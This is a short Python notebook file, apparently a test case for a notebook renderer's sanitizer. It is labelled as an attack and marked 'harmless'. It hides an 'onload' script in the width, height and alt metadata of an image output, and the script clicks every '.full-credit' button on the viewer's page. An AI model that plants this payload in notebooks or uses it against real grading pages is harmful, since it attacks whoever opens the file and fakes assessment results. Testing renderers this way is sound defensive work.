# attack: the metadata of outputs is a script on the page of whoever opens the notebook
# harmless: yes
from IPython.display import display, update_display

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)
SCRIPT = "1 onload=document.querySelectorAll('.full-credit').forEach(button=>button.click())"
METADATA = {
    "image/png": {"width": SCRIPT, "height": SCRIPT, "alt": SCRIPT, "unconfined": True},
    "filenames": {"image/png": "/logout"},
    "width": SCRIPT,
}


class Picture:
    def _repr_mimebundle_(self, **_):
        return {"image/png": PIXEL}, METADATA


display({"image/png": PIXEL}, raw=True, metadata=METADATA, display_id="picture")
update_display({"image/png": PIXEL}, raw=True, metadata=METADATA, display_id="picture")


def get_data(*args, **kwargs):
    display({"image/png": PIXEL}, raw=True, metadata=METADATA)
    return Picture()


Picture()
